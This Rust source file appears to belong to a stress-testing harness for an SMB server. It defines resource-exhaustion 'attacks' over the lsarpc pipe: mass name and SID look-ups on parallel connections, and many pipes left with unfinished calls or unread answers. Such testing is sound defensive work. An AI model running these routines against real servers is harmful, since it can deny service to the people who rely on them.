//! Calls on pipes: long look-ups of names and SIDs, and calls that are never completed.

use anyhow::{Result, ensure};
use client::{Client, Open};
use proto::bytes::Writer;
use proto::dtyp::Sid;
use proto::rpc::lsarpc::{INTERFACE, opnum};
use proto::rpc::ndr::Encoder;
use proto::rpc::pdu::{Bind, Context, Header, MAX_FRAGMENT, NDR, PduFlags, PduType};
use proto::smb2::FileId;
use proto::smb2::header::Command;
use proto::smb2::ioctl::{FsctlCode, IoctlResponse};

use super::{CREDIT, fsctl, open_many};
use crate::attack::Attack;
use crate::scene::Scene;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "rpc.names",
        what: "alice looks up 1,000 unknown names per call on four connections",
        prepare: None,
        run: |scene| Box::pin(names(scene)),
    },
    Attack {
        name: "rpc.sids",
        what: "alice looks up 5,000 SIDs per call on four connections",
        prepare: None,
        run: |scene| Box::pin(sids(scene)),
    },
    Attack {
        name: "rpc.unfinished",
        what: "alice opens pipes and writes the first fragments of calls that never end",
        prepare: None,
        run: |scene| Box::pin(unfinished(scene)),
    },
    Attack {
        name: "rpc.unread",
        what: "alice opens pipes, looks up 1,000 names in each, and reads no answer",
        prepare: None,
        run: |scene| Box::pin(unread(scene)),
    },
];

const PIPE: &str = "lsarpc";

/// Builds a PDU with this body.
fn pdu(kind: PduType, flags: PduFlags, call_id: u32, body: &[u8]) -> Vec<u8> {
    let mut bytes = Vec::new();
    let frag_length = u16::try_from(16 + body.len()).unwrap_or(u16::MAX);
    Header { kind, flags, frag_length, auth_length: 0, call_id }.encode(&mut Writer::new(&mut bytes));
    bytes.extend_from_slice(body);
    bytes
}

fn bind() -> Vec<u8> {
    let mut body = Vec::new();
    let contexts = vec![Context { id: 0, interface: INTERFACE, transfer_syntaxes: vec![NDR] }];
    let bind = Bind { max_xmit_frag: MAX_FRAGMENT, max_recv_frag: MAX_FRAGMENT, assoc_group_id: 0, contexts };
    bind.encode(&mut Writer::new(&mut body));
    pdu(PduType::BIND, PduFlags::FIRST_FRAG | PduFlags::LAST_FRAG, 1, &body)
}

/// Returns the fragments of a call.
fn request(number: u16, stub: &[u8]) -> Vec<Vec<u8>> {
    let pieces: Vec<_> = stub.chunks(usize::from(MAX_FRAGMENT) - 24).collect();
    let fragment = |(index, piece): (usize, &&[u8])| {
        let first = if index == 0 { PduFlags::FIRST_FRAG } else { PduFlags::NONE };
        let last = if index + 1 == pieces.len() { PduFlags::LAST_FRAG } else { PduFlags::NONE };
        let mut body = u32::try_from(stub.len()).unwrap_or(0).to_le_bytes().to_vec();
        body.extend_from_slice(&[0, 0]);
        body.extend_from_slice(&number.to_le_bytes());
        body.extend_from_slice(piece);
        pdu(PduType::REQUEST, first | last, 2, &body)
    };
    pieces.iter().enumerate().map(fragment).collect()
}

async fn transceive(client: &mut Client, pipe: FileId, input: &[u8]) -> Result<Vec<u8>> {
    let request = fsctl(FsctlCode::PIPE_TRANSCEIVE, pipe, input, CREDIT);
    let response = client.call(Command::IOCTL, 1, |out| request.encode(out)).await?;
    Ok(IoctlResponse::decode(response.message)?.output.to_vec())
}

/// Binds a pipe, opens a policy and returns its handle.
async fn policy(client: &mut Client, pipe: FileId) -> Result<[u8; 20]> {
    transceive(client, pipe, &bind()).await?;
    let mut stub = Encoder::default();
    stub.null();
    // ObjectAttributes with only a length, then MAXIMUM_ALLOWED.
    [24, 0, 0, 0, 0, 0, 0x0200_0000].into_iter().for_each(|value| stub.u32(value));
    let fragments = request(opnum::LSAR_OPEN_POLICY_2, &stub.into_bytes());
    let answer = transceive(client, pipe, &fragments.concat()).await?;
    let handle = answer.get(24..44).and_then(|bytes| bytes.try_into().ok());
    let handle: [u8; 20] = handle.ok_or_else(|| anyhow::anyhow!("no policy was opened: {answer:02x?}"))?;
    ensure!(handle != [0; 20], "the policy was refused");
    Ok(handle)
}

fn lookup_names(handle: &[u8; 20], count: u32) -> Vec<Vec<u8>> {
    let names: Vec<_> = (0..count).map(|number| format!("nobody-{number}")).collect();
    let mut stub = Encoder::default();
    stub.array(4, handle);
    stub.u32(count);
    stub.u32(count);
    names.iter().for_each(|name| stub.unicode(name));
    names.iter().for_each(|name| stub.text(name));
    // No SIDs translated yet, level 1, none mapped.
    stub.u32(0);
    stub.null();
    stub.u32(1);
    stub.u32(0);
    request(opnum::LSAR_LOOKUP_NAMES, &stub.into_bytes())
}

fn lookup_sids(handle: &[u8; 20], count: u32) -> Vec<Vec<u8>> {
    let mut stub = Encoder::default();
    stub.array(4, handle);
    stub.u32(count);
    stub.pointer();
    stub.u32(count);
    (0..count).for_each(|_| stub.pointer());
    for number in 0..count {
        // Half of them are UNIX users and half are groups; the server asks the system for each.
        if let Some(sid) = Sid::new(22, &[1 + number % 2, number]) {
            stub.sid(&sid);
        }
    }
    stub.u32(0);
    stub.null();
    stub.u32(1);
    stub.u32(0);
    request(opnum::LSAR_LOOKUP_SIDS, &stub.into_bytes())
}

/// Writes all fragments except the last, and transceives that.
async fn call(client: &mut Client, pipe: FileId, fragments: &[Vec<u8>]) -> Result<()> {
    let Some((last, first)) = fragments.split_last() else { return Ok(()) };
    for fragment in first {
        client.write(pipe, 0, fragment).await?;
    }
    let answer = transceive(client, pipe, last).await;
    match answer {
        // As much of the answer as fits into the buffer; the rest stays in the pipe.
        Ok(bytes) => ensure!(bytes.get(2) != Some(&PduType::FAULT.0), "the call was refused: {bytes:02x?}"),
        Err(error) => return Err(error),
    }
    Ok(())
}

async fn look_up(scene: &Scene, fragments: fn(&[u8; 20], u32) -> Vec<Vec<u8>>, count: u32) -> Result<()> {
    scene
        .crowd(4, async || {
            let mut client = scene.alice_on("IPC$").await?;
            loop {
                let pipe = client.open(&Open::file(PIPE)).await?;
                let handle = policy(&mut client, pipe).await?;
                scene.asked(1);
                call(&mut client, pipe, &fragments(&handle, count)).await?;
                client.close(pipe).await?;
            }
        })
        .await
}

async fn names(scene: &Scene) -> Result<()> {
    look_up(scene, lookup_names, 1000).await
}

async fn sids(scene: &Scene) -> Result<()> {
    look_up(scene, lookup_sids, 5000).await
}

async fn unfinished(scene: &Scene) -> Result<()> {
    scene
        .crowd(4, async || {
            let mut client = scene.alice_on("IPC$").await?;
            loop {
                let pipes = open_many(&mut client, &Open::file(PIPE), 64).await?;
                let fragments = lookup_names(&[0; 20], 1000);
                for pipe in pipes {
                    scene.asked(2);
                    transceive(&mut client, pipe, &bind()).await?;
                    for fragment in &fragments[..fragments.len() - 1] {
                        scene.asked(1);
                        client.write(pipe, 0, fragment).await?;
                    }
                }
            }
        })
        .await
}

async fn unread(scene: &Scene) -> Result<()> {
    scene
        .crowd(4, async || {
            let mut client = scene.alice_on("IPC$").await?;
            loop {
                for pipe in open_many(&mut client, &Open::file(PIPE), 64).await? {
                    let handle = policy(&mut client, pipe).await?;
                    for fragment in lookup_names(&handle, 1000) {
                        client.write(pipe, 0, &fragment).await?;
                    }
                    scene.asked(1);
                }
            }
        })
        .await
}
